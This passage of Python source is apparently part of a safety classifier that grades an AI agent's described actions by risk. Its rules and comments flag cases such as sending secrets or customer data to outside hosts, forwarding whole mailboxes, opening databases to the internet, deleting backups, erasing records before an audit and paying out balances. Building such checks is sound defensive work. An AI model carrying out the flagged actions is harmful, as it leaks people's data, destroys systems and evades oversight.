            why_open = f"lets more people log in to production ({', '.join(opened)}; {', '.join(ctx.prod)})"
            return L.FORBIDDEN, why_open, "hint.security-control-off", True
        level = max(level, L.DANGEROUS if opened else L.DESTRUCTIVE)
        why.append(f"changes a security control ({named(Obj.SECURITY)})")
    if Obj.PRIV_ESC in kinds:
        return (
            L.FORBIDDEN,
            f"grants unchecked root access ({named(Obj.PRIV_ESC)})",
            "hint.privilege-escalation",
            False,
        )
    if Obj.CLOUD_ACCOUNT in kinds and act is Act.DESTROY:
        return (
            L.FORBIDDEN,
            f"deletes a whole cloud project or account ({named(Obj.CLOUD_ACCOUNT)})",
            "hint.cloud-account",
            True,
        )
    if verb in MALICIOUS_VERBS and kinds & {Obj.DATA, Obj.SECRET, Obj.BACKUP}:
        return L.FORBIDDEN, f"'{verb}' takes data out without authorisation", "hint.exfiltrate-data", True
    if (
        Obj.SECRET in kinds
        and not (verb in PERMISSION_VERBS and not _wide_permissions(frame))
        and not (verb in NEW_SECRET_VERBS and not ctx.external_dest)
        and not (_secret_shape_only(frame) and not frame.public)
    ):
        shared = [] if _into_secret_store(frame) else sorted(
            frame.words & SHARED_PLACES - set(objs.get(Obj.SECRET, ())))
        # "include it in the bug report": a phrasal placing verb places as its verb does
        placed = (act in (Act.EXTERNAL, Act.TRANSFER) or verb.split()[0] in PLACING) and (
            act is Act.EXTERNAL or ctx.external_dest or shared or frame.public
        )
        person = _one_person(frame, ctx) if placed and nonprod and not scope else ""
        if placed and not prod and any("authorized_keys" in w for w in frame.words):
            # "adding an SSH key for the external auditor to the staging bastion's authorized_keys": the key
            # there is a public one; what is given is a login to the host, a grant a human decides on
            return (L.DESTRUCTIVE, f"grants a login on the host to the holder of a key ({named(Obj.SECRET)} "
                                   "into authorized_keys)", "hint.privilege", False)
        if person:
            # "sending the staging API token to the new contractor by email", "DM the staging DB password
            # to @maria": a non-production secret handed to one named person, not to a place others read;
            # a human decides whether they should hold it (rotated if not)
            why_person = f"hands a non-production secret ({named(Obj.SECRET)}) to one person ({person})"
            return L.DESTRUCTIVE, why_person, "hint.share-secret", False
        if placed:
            return (
                L.FORBIDDEN,
                f"sends secrets ({named(Obj.SECRET)}) off the machine",
                "hint.exfiltrate-secret",
                True,
            )
        cared = _secret_cared_for(frame, act, verb, ctx)
        if cared and not prod and not frame.public:
            return L.REVERSIBLE, f"{cared} ({named(Obj.SECRET)})", "hint.protect-secret", False
        level = max(level, L.DESTRUCTIVE)
        why.append(f"touches secrets ({named(Obj.SECRET)})")
    if Obj.PROCESS in kinds and act in (Act.DESTROY, Act.DISRUPT) and scope:
        return L.FORBIDDEN, f"kills every process ({', '.join(scope)})", "hint.kill-all", True
    people = frame.words & (_PEOPLE | MARKERS.customer)
    if (verb in PLACING and people and frame.words & (WHOLE_DATASETS | _TABLE_FILES)
            and (frame.words & SHARED_PLACES or ctx.external_dest)):
        # "pasting the full users export into #general": everyone's records where others read them
        level = max(level, L.DESTRUCTIVE)
        why.append(f"puts a dataset about people where others read it ({', '.join(sorted(people))})")

    if verb in PUBLISH_VERBS and ctx.registry:
        act = Act.EXTERNAL
        level = L.DESTRUCTIVE
        why.append(f"publishes to a public registry ({', '.join(ctx.registry)})")
    if Obj.CLOUD_ACCOUNT in kinds and verb.split()[0] in ACCOUNT_ENDING:
        why_closed = f"closes a whole cloud account ({named(Obj.CLOUD_ACCOUNT)})"
        return L.FORBIDDEN, why_closed, "hint.cloud-account", True
    listening = verb in _LISTENING and frame.words & _DATABASE_WORDS  # "binding Redis to 0.0.0.0"
    open_door = _NO_LOCK.search(" ".join(frame.order))
    opening = (frame.words & (NETWORK_OPENINGS | _DATABASE_PORTS) or {"security", "group"} <= frame.words
               or listening or (open_door and "access" in frame.words))
    anywhere = sorted(frame.words & MARKERS.anywhere) + [
        f"{w} {nxt}" for w, nxt in itertools.pairwise(frame.order)
        if w in ("any", "all", "every") and nxt in _PLACES_ON_THE_NET]
    if (act in (Act.CHANGE, Act.PRIVILEGE, Act.VAGUE) or listening) and opening and anywhere:
        opened = ", ".join(anywhere)
        if scope and (prod or Obj.SECURITY in kinds or "ports" in frame.words or "port" in frame.words):
            why_open = f"opens every port to the whole internet ({opened}): the firewall no longer protects"
            return L.FORBIDDEN, why_open, "hint.security-control-off", True
        db_port = sorted(frame.words & _DATABASE_PORTS)
        if (db_port or frame.words & _DATABASE_WORDS) and open_door:
            why_db = (f"opens a database to the whole internet ({opened}) with no password "
                      f"('{open_door.group(0)}')")
            return L.FORBIDDEN, why_db, "hint.security-control-off", True
        if prod and open_door:
            # "allow unauthenticated access from anywhere" to a production service: no lock and no wall
            why_door = (f"opens a production service to anyone ({opened}) "
                        f"with no login ('{open_door.group(0)}')")
            return L.FORBIDDEN, why_door, "hint.security-control-off", True
        if prod and (db_port or Obj.DATA in kinds or frame.words & _DATABASE_WORDS):
            port = f", port {', '.join(db_port)}" if db_port else ""
            why_db = f"opens a production database to the whole internet ({opened}{port})"
            return L.FORBIDDEN, why_db, "hint.security-control-off", True
        level = max(level, L.DESTRUCTIVE)
        why.append(f"opens network access to anyone ({opened})")
    facing_words = sorted(frame.words & MARKERS.public_facing) + _dns_records(frame)
    if facing_words and not prod and not ctx.external_dest and frame.words & _REACHED_LOCALLY:
        # "a self-signed dev certificate for the local HTTPS server", "the localhost cert": only this
        # machine reaches it, whatever kind of public-facing thing it is
        facing_words = []
    if facing_words and nonprod and not prod and _nonprod_name_and_target(frame):
        # "a Route 53 record for api.staging.acme.io pointing at the new staging load balancer": the name
        # looked up and where it sends people are both non-production; testers are who it reaches
        facing_words = []
    if act in (Act.CHANGE, Act.EXECUTE) and facing_words and not (kinds and kinds <= {Obj.EPHEMERAL}):
        # a cache in front of the site ("invalidating the CDN cache") refills from the origin: the
        # public reaches the same thing
        level = max(level, L.DESTRUCTIVE)
        why.append(f"changes what the public reaches ({', '.join(facing_words)})")
    if act is Act.CHANGE and verb in _CUTTING and _published_release(frame):
        # "creating a GitHub release v3.0 and attaching the binaries": watchers are notified and the
        # artifacts ship; a draft waits for a human
        level = max(level, L.DESTRUCTIVE)
        why.append("publishes a release to its users")
    # "to CSV in the repo's data/ folder": a commit puts it into every clone's history for good
    own = frame.words & (OWN_DEVICES | _REPOSITORY_PLACES)
    if act is Act.TRANSFER and own and Obj.DATA in kinds and (scope or ctx.customer or prod) and not (
            _schema_only(frame, objs)):
        # the customer table on a laptop: out of the store's protection, not yet outside
        level = max(level, L.DESTRUCTIVE)
        why.append(f"copies customer or production data onto a personal device or into the repository "
                   f"({', '.join(sorted(own))})")
    if (act is Act.TRANSFER or (verb in PLACING and _to_public_endpoint(ctx))) and ctx.external_dest:
        # "pasting the export into pastebin.com": placed on a paste site or a request bin, it is sent
        act = Act.EXTERNAL
        level = L.DESTRUCTIVE
        why.append(f"sends data to {', '.join(ctx.external_dest)}")
    if act is Act.EXTERNAL and (verb in PUBLIC_VERBS or frame.public) and ctx.customer and not (
            (frame.words & _RELEASES or kinds) and not kinds & _CARRIED
    ) and not _customers_addressed(frame, ctx):
        # an internal document alone pauses; with the customers' details in it, it is a leak
        why_pub = f"publishes customer information to the public ({', '.join(ctx.customer)})"
        return L.FORBIDDEN, why_pub, "hint.exfiltrate-data", True
    exposed_data = _people_dataset_exposed(act, verb, frame, ctx, objs)
    if exposed_data and not nonprod:
        # "publishing the dump of the users table as a Kaggle dataset", "attaching the customers/ folder
        # to a public Discord message", "a campaign to all 90k subscribers with the customer export
        # attached": everyone's records in front of anyone, all at once, and never called back
        return L.FORBIDDEN, exposed_data, "hint.exfiltrate-data", True
    exposed_to = _exposed_to(frame, ctx)
    shares = act in (Act.EXTERNAL, Act.TRANSFER) or (bool(frame.public) and verb in EXPOSE_VERBS)
    if shares and ctx.sensitive and exposed_to:
        # "sharing the HR salary sheet with anyone with the link", "posting the layoffs plan in a public
        # discussion": people's records or confidential material where the company no longer controls them
        why_leak = (f"puts people's records or confidential material ({', '.join(ctx.sensitive)}) "
                    f"where anyone or a personal account reads them ({', '.join(exposed_to)})")
        return L.FORBIDDEN, why_leak, "hint.exfiltrate-data", True
    company = _company_wide(frame)
    # what the clause itself carries ("in #general that the salary review is done" carries no salaries)
    carried = [w for w in ctx.sensitive if any(w in o for o in frame.order)]
    if shares and carried and company and not _told_about(frame):
        # "posting the HR salary spreadsheet in #general": people's records before everyone in the
        # company at once; a message deleted later takes nothing back
        why_all = (f"puts people's records or confidential material ({', '.join(carried)}) "
                   f"before the whole company ({', '.join(company)})")
        return L.FORBIDDEN, why_all, "hint.exfiltrate-data", True
    mailbox = _mailbox_forwarded(verb, frame, scope)
    if act is Act.EXTERNAL and mailbox and ctx.external_dest:
        # "a mail rule forwarding everything in support@acme.io to my personal gmail", "the CEO's inbox to
        # an external address": every message, past and future, customers' and colleagues', leaves
        why_fwd = f"forwards a whole mailbox outside ({mailbox} to {', '.join(ctx.external_dest)})"
        return L.FORBIDDEN, why_fwd, "hint.exfiltrate-data", True
    if act is Act.EXTERNAL:
        # "dumping the prod database and uploading it": what "it" carries from the clause before counts
        whole = scope or (frame.words | {n.lower() for n in objs.get(Obj.DATA, ())}) & WHOLE_DATASETS
        exposed = _outside_control(ctx)
        reach = scope or ctx.customer or (whole and (prod or exposed))
        # "telling the customers the fix is live", "sending the customer the link to the docs": a statement
        # or a thing handed to them, not their data sent out
        carries_data = Obj.DATA in kinds and not (
            (verb in TELL_VERBS or lemma(verb) in _GIVING_VERBS) and _customers_addressed(frame, ctx))
        if carries_data and reach and ctx.external_dest:
            # customers' data sent to a personal mailbox or a public place has leaked, whole or not; a
            # whole dataset there (a request bin, a paste site, a personal drive) has leaked too
            # so has a whole dataset handed to a party the hint itself calls outside the company ("the
            # whole channel history to an outside journalist", "the user export to an outside agency")
            outsider = set(ctx.external_dest) & _OUTSIDERS
            if ctx.untrusted_source or (whole and (ctx.customer or exposed or (outsider and not nonprod))) \
                    or (ctx.customer and exposed):
                to_whom = ctx.untrusted_source or exposed or sorted(outsider) or ctx.external_dest
                return (
                    L.FORBIDDEN,
                    f"sends bulk or customer data to an untrusted host or party ({', '.join(to_whom)})",
                    "hint.exfiltrate-data",
                    True,
                )
            level = max(level, L.DANGEROUS)
            why.append("sends bulk or customer data outside")
        carried = kinds - {Obj.DATA} if _identifies_nobody(frame) else kinds
        if frame.internal and not ctx.external_dest and not carried & {Obj.SECRET, Obj.DATA, Obj.PAYMENT}:
            # "posting the CI results to our internal #builds channel": stays inside the team; so does a
            # table's column names or anonymised figures, which are about nobody
            return L.REVERSIBLE, f"sends to an internal audience ({', '.join(frame.internal)})", rule, False
        irrev = True
    if act is Act.DESTROY:
        if Obj.REPO in kinds:
            copy = frame.words & REPO_COPIES or nonprod or ctx.self_made
            if not copy and verb not in KEEPS_CONTENT:
                why_repo = (f"deletes a whole repository with its history, issues and pull requests "
                            f"({named(Obj.REPO)})")
                return L.FORBIDDEN, why_repo, "hint.delete-repository", True
            level = max(level, L.DANGEROUS)
            why.append(f"deletes a repository ({named(Obj.REPO)})")
        if Obj.BACKUP in kinds:
            if scope and not _narrow(frame):
                why_backups = f"deletes all backups ({named(Obj.BACKUP)}): nothing left to restore from"
                return L.FORBIDDEN, why_backups, "hint.backups", True
            level = max(level, L.DANGEROUS)
            why.append(f"deletes backups ({named(Obj.BACKUP)})")
    if act is Act.DESTROY and frame.words & _RECORDS and ctx.oversight and not nonprod:
        # "erasing the incident logs and Slack history before the customer's audit": evidence destroyed
        # ahead of the people who would read it
        why_trail = f"destroys records ahead of an audit or investigation ({', '.join(ctx.oversight)})"
        return L.FORBIDDEN, why_trail, "hint.security-control-off", True
    each = "each" in frame.words and not frame.bulk_numbers  # "for each user in the domain": every one
    if (act is Act.DESTROY and (set(frame.scope_all) & _EVERYTHING or each) and frame.words & _PEOPLE
            and frame.words & _DIRECTORIES and not nonprod and not frame.narrowed
            and not frame.words & _TABLE_WORDS):
        # "wipe every user in the Okta org": everyone's account in the identity directory at once
        why_every = f"deletes every account ({', '.join(scope) or 'each'})"
        return L.FORBIDDEN, why_every, "hint.production-destroy", True
    drive = _shared_drive_itself(frame, objs) if act is Act.DESTROY else ""
    if drive and not nonprod and not _narrow(frame) and not frame.words & _SELECTING:
        # "deleting the 'Finance' shared drive": the drive is every file the team keeps in it, at once
        why_drive = f"deletes a whole drive a team shares ({drive}): every file in it at once"
        return L.FORBIDDEN, why_drive, "hint.production-destroy", True
    whole_account = _account_wide(frame, bool(ctx.team_product))
    if (act is Act.DESTROY and whole_account and set(frame.scope_all) & _EVERYTHING and not nonprod
            and kinds & _ACCOUNT_HOLDINGS and not _narrow(frame) and not frame.words & _SELECTING
            and verb not in KEEPS_CONTENT and not ctx.self_made and "i" not in frame.words):
        # (archived, every item is still there to unarchive; "every message I posted today" is the agent's)
        # "terminating all EC2 instances in the account", "emptying the Drive trash for the entire
        # organization": everything of a kind the account or organisation holds, production among it
        why_all = f"destroys every {'/'.join(sorted(o.value for o in kinds & _ACCOUNT_HOLDINGS))} " \
                  f"across a whole account or organisation ({whole_account}; {', '.join(scope)})"
        return L.FORBIDDEN, why_all, "hint.production-destroy", True
    if act in (Act.DESTROY, Act.DISRUPT) and scope and kinds & DESTROY_TARGETS:
        level = max(level, L.DANGEROUS)
        why.append(f"scope: {', '.join(frame.scope_all + frame.bulk_numbers)}")
        live = ctx.customer or (_live_records(frame, ctx) if _mass(frame) else [])
        if act is Act.DESTROY and live and Obj.DATA in kinds and not nonprod and not frame.narrowed:
            # Customer data lives in production, wherever the hint forgets to say so; so do the records
            # of a hosted business system (the CRM, the books, the helpdesk) and of a drive or workspace
            # a team shares: all of them at once is a wipe, not a clean-up
            why.append(f"live records ({', '.join(live)})")
            return L.FORBIDDEN, "; ".join(why), "hint.production-destroy", True
    site_only = not kinds & _KEPT_FROM_REVIEWERS and {n.lower() for n in objs.get(Obj.DATA, ())} \
        <= _SITE_CONTENT
    if act is Act.EXTERNAL and nonprod and frame.words & _SITES and site_only and not ctx.external_dest \
            and not frame.public:
        # "publishing the pricing page to the Webflow staging site for review": a site kept for the team to
        # look at before the live one; the next publish replaces what it shows (to the live site, it stays
        # a publication, and a secret or data put there is judged by what it is)
        return L.REVERSIBLE, f"published to a non-production site ({', '.join(ctx.nonprod)}) for the team " \
            "to review: the next publish replaces it", "hint.nonprod-publish", False
    if Obj.PAYMENT in kinds and nonprod and not scope \
            and not (verb in _COMMITTING and {n.lower() for n in ctx.nonprod} <= _PREVIEWS):
        # a preview shows what a run would pay; submitting or approving it is the run itself
        return L.REVERSIBLE, f"test-mode money ({', '.join(ctx.nonprod)})", "hint.change", False
    review = _review_thread(frame) and not ctx.external_dest and not ctx.customer
    if act is Act.EXTERNAL and review and kinds <= {Obj.MESSAGE, Obj.TEXT, Obj.CODE_PART, Obj.EPHEMERAL}:
        # "posting a comment on the PR with the test results": the project's own review thread
        return L.REVERSIBLE, "comments in the project's own review thread", "hint.change", False
    if (act is Act.EXTERNAL and verb in _ANSWERING and not ctx.customer and not ctx.external_dest
            and not frame.public and not frame.words & _OUTSIDE_AUDIENCE and not kinds & _CARRIED):
        # "replying in OPS-1123 with the root cause", "replying on issue #310 to ask for logs": an answer
        # in a thread the team works in; a customer's ticket, a vendor's mail or a public place is not
        return L.REVERSIBLE, "answers in the team's own thread", "hint.change", False
    if (act is Act.EXTERNAL and verb in _ANSWERING and _priced_document(frame) and not ctx.customer
            and not ctx.external_dest and not frame.public and not frame.words & _OUTSIDE_AUDIENCE
            and not kinds - {Obj.PAYMENT} & _CARRIED):
        # "replying to Jordan with the internal pricing sheet attached": a document about prices answered
        # within the team's thread; no money moves and nobody outside reads it
        why_doc = "answers in the team's own thread with a document about prices"
        return L.REVERSIBLE, why_doc, "hint.change", False
    unnamed = _de_identified(frame)
    if (act is Act.EXTERNAL and unnamed and (frame.internal or _into_document(frame)) and not ctx.customer
            and not ctx.external_dest and not frame.public and not frame.words & _OUTSIDE_AUDIENCE
            and not kinds & {Obj.SECRET, Obj.PAYMENT, Obj.BACKUP}):
        # "the anonymized salary band ranges, no names, into the comp-review doc", "employees_schema.md
        # (column names only, no rows) to the internal wiki": what is placed names nobody, and a team's own
        # document or wiki is read inside the company
        return L.REVERSIBLE, f"puts what names nobody ({unnamed}) in a team's own document or wiki", \
            "hint.change", False
    if act is Act.EXTERNAL and _link_in_team_channel(frame, ctx, kinds):
        # "posting the wiki link in #it-help": a pointer, read by the team, who can open only what their
        # own access already opens; a link that grants access (presigned, "anyone with the link") is not
        return L.REVERSIBLE, "shares a link in a team channel: it opens only what readers can already open", \
            "hint.team-link", False
    if act is Act.EXTERNAL and _to_self(frame) and not kinds & {Obj.SECRET, Obj.PAYMENT} \
            and not (verb in _HANDING_OVER and frame.words & _CONTROL_OF):
        # a copy mailed to oneself harms nobody; ownership of a shared thing given to oneself takes it
        # from those who hold it ("transferring the company's workspace to my own account")
        return L.REVERSIBLE, "sends only to the user's own address", "hint.change", False
    local = [w for w in frame.order if ("localhost" in w or "127." in w) and _is_loopback(w)]
    elsewhere = [w for w in frame.order if ("@" in w or "://" in w or re.match(r"^[\w-]+(?:\.[\w-]+)+$", w))
                 and not _is_loopback(w) and not re.search(r"\.(?:md|txt|html|json|ya?ml|py|js|ts)$", w)]
    if (act is Act.EXTERNAL and local and not elsewhere and not ctx.external_dest
            and not kinds & {Obj.SECRET, Obj.PAYMENT}):
        # "send a test email to my local Mailhog at localhost:1025": it never leaves this machine
        return L.REVERSIBLE, f"sends only to this machine ({', '.join(local)})", "hint.change", False
    git_work = kinds and kinds <= {Obj.BRANCH, Obj.WORK, Obj.CODE_PART}
    if act is Act.EXTERNAL and git_work and verb in _PUSHING and not ctx.registry and not ctx.external_dest:
        why_push = f"publishes a branch to its remote ({named(next(iter(kinds)))}): a push"
        return L.REVERSIBLE, why_push, "hint.change", False
    moves_money = act is Act.EXTERNAL or (act is Act.TRANSFER and ctx.external_dest) or verb in MONEY_VERBS
    if moves_money and verb in _DRAFTING and _drafted_payment(frame):
        # "creating a draft invoice for the October retainer": a draft waits for a person to send or pay it;
        # a send in its own clause ("…, then sending it") is judged there
        moves_money = False
    # "refunding every order": a refund pays money out whatever it names; one with its amount named
    # ("the full $129") is that amount
    refunds = (verb in ("refund", "reimburse") and moves_money and not nonprod
               and not any(re.match(r"^[$€£]\d", w) for w in frame.order))
    if (Obj.PAYMENT in kinds or refunds) and moves_money and not _about_payments(frame):
        if scope and (act is Act.EXTERNAL or ctx.external_dest):
            return L.FORBIDDEN, f"moves all the money out ({', '.join(scope)})", "hint.drain-funds", True
        payee = _unverified_payee(frame, ctx)
        if _mass(frame) and frame.words & _PAYING_OUT and payee:
            # "a payout of the entire available balance to the new bank account from the email": all of
            # it, to a payee learned from a message rather than one on file; a payout is not called back
            why_drain = f"pays all the money out to a payee not on file ({', '.join(scope)}; {payee})"
            return L.FORBIDDEN, why_drain, "hint.drain-funds", True
        level = max(level, L.DESTRUCTIVE)
        why.append(f"moves money ({named(Obj.PAYMENT) if Obj.PAYMENT in kinds else verb})")
    elif (Obj.PAYMENT in kinds and verb in _MONEY_CHANGES
          and not (frame.paths and source_files_only(frame.paths))):
        # "issuing a $10 credit", "applying a 100%-off coupon", "raising the Pro plan price",
        # "triggering a payout": what customers pay or are paid changes, and money is not taken back
        level = max(level, L.DESTRUCTIVE)
        why.append(f"changes what money moves ({named(Obj.PAYMENT)})")
    everybody = frame.words & PUBLIC_PRINCIPALS | _every_principal(frame)
    strong = _role_parts(frame) & PRIVILEGED_ROLES
    # `roles/owner`, `role:admin` is a role inside an identifier; `root-cause` is not
    # "for the owner's own Google account", "the admin's laptop": a role noun in the possessive says whose
    # thing is acted on, not a role the act gives
    whose_only = Obj.ROLE in kinds and all(_POSSESSIVE.search(r) for r in frame.objects.get(Obj.ROLE, []))
    role_named = (Obj.ROLE in kinds and not whose_only) or bool(strong and not whose_only and any(
        ("role" in w or w in _NAMED_ROLES) and (strong & set(re.split(r"[/._:-]", w))) for w in frame.words))
    if role_named and (act in (Act.CHANGE, Act.PRIVILEGE, Act.VAGUE) or verb == "invite"):
        if everybody and strong:
            why_public = (f"grants a privileged role ({', '.join(sorted(strong))}) "
                          f"to everybody ({', '.join(sorted(everybody))})")
            return L.FORBIDDEN, why_public, "hint.public-admin", True
        level = max(level, L.DANGEROUS if frame.unknown_role else L.DESTRUCTIVE)
        granted = named(Obj.ROLE) if Obj.ROLE in kinds else ", ".join(sorted(strong))
        why.append(f"grants a privileged role ({granted})")
    identity = _identity_given_secrets(frame) if Obj.SECRET in kinds and act in (Act.CHANGE, Act.PRIVILEGE) \
        and not role_named else ""
    if identity:
        # "creating a Vault AppRole with read access to the staging secrets path": the secrets are not new,
        # an identity that can read them is; whatever logs in as it holds them (a grant, as a role is)
        level = max(level, L.DESTRUCTIVE)
        why.append(f"gives an identity ({identity}) access to secrets ({named(Obj.SECRET)})")
    if (
        frame.permission
        and act in (Act.CHANGE, Act.PRIVILEGE)
        and (_wide_permissions(frame) or verb not in PERMISSION_VERBS)
    ):
        level = max(level, L.DESTRUCTIVE)
        why.append(f"changes permissions ({', '.join(frame.permission)})")
        if scope:
            level = max(level, L.DANGEROUS)
    if frame.public and (verb in EXPOSE_VERBS or "publicly" in frame.public) and act is not Act.DESTROY:
        if ctx.customer:
            why_open = f"makes customer data public ({', '.join(ctx.customer)})"
            return L.FORBIDDEN, why_open, "hint.exfiltrate-data", True
        # a repository, bucket or folder named for what it keeps ("acme/infra-secrets", "db-dumps")
        backups = sorted(w for w in frame.words if _BACKUP_NAME.search(w) or _SECRETS_NAME.search(w))
        if Obj.BACKUP in kinds or Obj.SECRET in kinds or backups:
            # a backup or a dump holds every record at once: public, it has leaked whole
            leaked = named(Obj.SECRET) if Obj.SECRET in kinds else ", ".join(backups) or named(Obj.BACKUP)
            return L.FORBIDDEN, f"makes backups or secrets public ({leaked})", "hint.exfiltrate-data", True
        level = max(level, L.DESTRUCTIVE)
        why.append("makes something public")
    if verb == "merge" and _merged_records(frame):
        # "merging duplicate customer accounts 1182 and 1183": one record absorbs the other, its history
        # and logins go with it, and splitting them again is manual work
        level = max(level, L.DESTRUCTIVE)
        why.append(f"merges records into one ({', '.join(sorted(frame.words & _PEOPLES_RECORDS))})")
    everyone = _reaches_everyone(act, verb, frame, kinds)
    if everyone and not nonprod:
        # "flipping new_checkout to 100% for all customers", "the failover step for the whole site": what
        # every customer gets changes at once; a mistake reaches all of them before it is rolled back
        level = max(level, L.DESTRUCTIVE)
        why.append(f"changes what everyone gets at once ({everyone})")
    moved = _moved_into_scratch(verb, frame)
    if moved:
        # "moving ~/Documents/tax-returns into /tmp to get them out of the way": scratch is emptied on
        # reboot or by the next cleanup, and what was moved there has no other copy
        level = max(level, L.DESTRUCTIVE)
        why.append(f"moves what is kept ({moved}) into scratch space, which is wiped")
    spends = act is Act.CHANGE and ctx.spend and verb.split()[0] in _SPENDING
    if spends and not kinds & {Obj.CODE_PART, Obj.TEXT}:
        # "launching 64 A100 spot instances (about $9k)": money spent on a provider is not refunded
        level = max(level, L.DESTRUCTIVE)
        why.append(f"commits money ({', '.join(ctx.spend)})")
    if Obj.PERSISTENCE in kinds and act in (Act.CHANGE, Act.EXECUTE, Act.VAGUE):
        level = max(level, L.DESTRUCTIVE)
        why.append(f"changes what runs automatically ({named(Obj.PERSISTENCE)})")
    if act in (Act.CHANGE, Act.EXECUTE, Act.VAGUE) and Obj.SYSTEM in kinds:
        level = max(level, L.DESTRUCTIVE)
        why.append(f"writes outside the project ({named(Obj.SYSTEM)})")
    if frame.force and verb == "push":
        level = max(level, L.DESTRUCTIVE if frame.lease else L.DANGEROUS)
        why.append("force push rewrites the remote branch" + (" (lease-protected)" if frame.lease else ""))
        irrev = not frame.lease
    elif verb == "push" and level <= L.REVERSIBLE and frame.words & _GIT_REMOTES and not ctx.prod \
            and not frame.words & _PUSH_BEYOND_A_BRANCH and not ctx.external_dest and not frame.public:
        # "git push origin release/2.3 with the hotfix commits": commits added on top of a branch of the
        # team's remote, nothing rewritten; a revert undoes them (a force push, a deletion, tags or the
        # default branch keep their own readings)
        why.append("an ordinary push of a branch: commits added, none rewritten")
        rule = "hint.branch-push"
    elif frame.force and act is Act.DESTROY and level >= L.DESTRUCTIVE:
        level = _raise(level, cap=L.DANGEROUS)
        why.append(f"forced ({', '.join(frame.force)})")
    if frame.skip_review:
        level = max(level, L.DESTRUCTIVE)
        if act is Act.DESTROY:
            level = _raise(level, cap=L.DANGEROUS)
        why.append(f"skips a safeguard ({', '.join(frame.skip_review)})")
    if frame.sudo:
        level = max(level, L.DESTRUCTIVE)
        why.append(f"runs as root ({', '.join(frame.sudo)})")
    shared_items = frame.words & _SHARED_ITEMS
    if verb == "merge":  # a pull request merged lands code; merged tickets or incidents close the rest
        shared_items -= _CODE_REQUESTS
    if verb in _BULK_CLOSING and scope and shared_items and level < L.DESTRUCTIVE and not nonprod:
        # "close all 312 open issues", "bulk-close every ticket older than a year": many people's items
        # changed at once, each a notification and a decision undone one by one
        level = L.DESTRUCTIVE
        why.append(f"closes or locks in bulk ({', '.join(scope)})")
    if act is Act.CHANGE and scope and level < L.DESTRUCTIVE and not nonprod \
            and frame.words & _ORG_ITEMS and frame.words & _ORGANISATION:
        # "updating the description on all 120 repos in the org": every team's repositories (projects,
        # spaces, channels) changed at once, each undone one by one
        level = L.DESTRUCTIVE
        why.append(f"changes every one of the organisation's {'/'.join(sorted(frame.words & _ORG_ITEMS))} "
                   f"({', '.join(scope)})")
    if (act is Act.VAGUE and level < L.DESTRUCTIVE and all(a is Act.VAGUE for a, _ in frame.verbs)
            and not _vague_is_cheap(frame, kinds, scope, ctx)):
        # "sorting out the permissions on the shared drive", "the usual cleanup on the cluster": the
        # verb says nothing about what happens, so only the workspace's own files make it cheap
        level = L.DESTRUCTIVE
        what = ", ".join(f"{o.value} ({named(o)})" for o in sorted(kinds)) or "nothing concrete"
        why.append(f"does something unsaid to {what}" + (f", {', '.join(scope)}" if scope else ""))
        rule = "hint.vague-target"

    # Environment last: production raises, development caps what only costs development data.
    if prod and act in (Act.TRANSFER, Act.REVEAL) and Obj.DATA in kinds and not _schema_only(frame, objs):
        level = max(level, L.DESTRUCTIVE)
        why.append(f"copies production data ({named(Obj.DATA)})")
    elif prod and act is Act.TRANSFER and _into_production(frame, verb, ctx.prod):
        level = max(level, L.DESTRUCTIVE)
        why.append("copies into production: what runs there changes")
    if prod:
        retention = any(n.endswith(" than") for n in frame.narrowed)
        whole_store = {n.lower() for n in objs.get(Obj.DATA, ())} & WHOLE_STORES
        scoped = _narrow(frame) and (retention or not whole_store)
        respawned = kinds == {Obj.INFRA} and not scope and all(
            n.lower() in RESPAWNED for n in objs[Obj.INFRA]
        )
        if act is Act.DESTROY and respawned:
            # a pod is recreated by its deployment: a disruption a human confirms, not a loss
            level = max(level, L.DANGEROUS)
            why.append(f"recreated by its controller ({named(Obj.INFRA)})")
            why.append(f"on production ({', '.join(ctx.prod)})")
            return level, "; ".join(why), "hint.destroy", True
        if act is Act.DESTROY and kinds & PROD_SENSITIVE and scoped:
            # named rows or one user's data: a scoped deletion a human confirms, not a wipe
            level = max(level, L.DANGEROUS)
            why.append(f"narrowed to {', '.join(frame.narrowed)} on production ({', '.join(ctx.prod)})")
            return level, "; ".join(why), "hint.destroy", True
        if act is Act.DESTROY and (kinds & PROD_SENSITIVE or (not kinds and (
                _production_named(frame, ctx) or "everything" in frame.words
                or (set(frame.scope_all) & _EVERYTHING and verb.split()[0] in _LOSING
                    and not _narrow(frame))))):
            # ("dropping app_prod": the name is the target, and it says production; "wiping everything on
            # the production side", "destroys every Terraform workspace including production": all of it)
            return (
                L.FORBIDDEN,
                "; ".join([*why, f"on production ({', '.join(ctx.prod)})"]),
                "hint.production-destroy",
                True,
            )
        if act is Act.CHANGE and verb in _MADE_HERE and kinds <= _MADE_HERE_KINDS:
            # "helm template with the prod values", "building the prod image": an artifact made here for
            # production; nothing there changes until it is deployed, which is an act of its own
            why.append(f"made here for production ({', '.join(ctx.prod)}): deployed by an act of its own")
            return level, "; ".join(why), rule, irrev
        if act is Act.CHANGE and verb in _SAVED_HERE and kinds and kinds <= _SAVED_KINDS \
                and all(_WORKSPACE_FILE.fullmatch(n) for kind in kinds for n in objs[kind]) \
                and not {p.lower() for p in ctx.prod} & frame.words:
            # "…on the production replica and saving aggregates to reports/churn.csv": the file written is
            # in the workspace; production, named in another clause, is where something else was read
            why.append(f"written into the workspace ({', '.join(n for k in kinds for n in objs[k])}), not on "
                       "production")
            return level, "; ".join(why), "hint.saved-here", irrev
        if act is Act.EXECUTE and frame.words & _READ_RUNS and not frame.words & _WRITING_RUNS:
            # "running the Salesforce production dedupe report to list duplicate Contacts": a report or a
            # read-only query reads; a job, a script or a migration run there is a change
            why.append(f"a report or read-only query run on production ({', '.join(ctx.prod)}): it reads")
            return level, "; ".join(why), "hint.read-in-place", False
        if act is Act.EXECUTE and _on_read_replica(frame):
            # "running the report query on the prod read replica": a replica refuses writes
            why.append(f"on a read replica of production ({', '.join(ctx.prod)}): it refuses writes")
            return level, "; ".join(why), "hint.read", False
        if act is Act.DISRUPT and kinds & PROD_SENSITIVE:
            level = max(level, L.DANGEROUS)
        elif (
            act is Act.EXTERNAL
            or verb in INFRA_CHANGE
            or act in (Act.EXECUTE, Act.VAGUE, Act.PRIVILEGE, Act.DESTROY, Act.DISRUPT, Act.CHANGE)
        ):
            level = max(level, L.DESTRUCTIVE)
        why.append(f"on production ({', '.join(ctx.prod)})")
    elif nonprod:
        if act is Act.DESTROY and "local" in ctx.nonprod and kinds == {Obj.DATA} and level <= L.DESTRUCTIVE \
                and _schema_part_only({n.lower() for n in objs[Obj.DATA]}) \
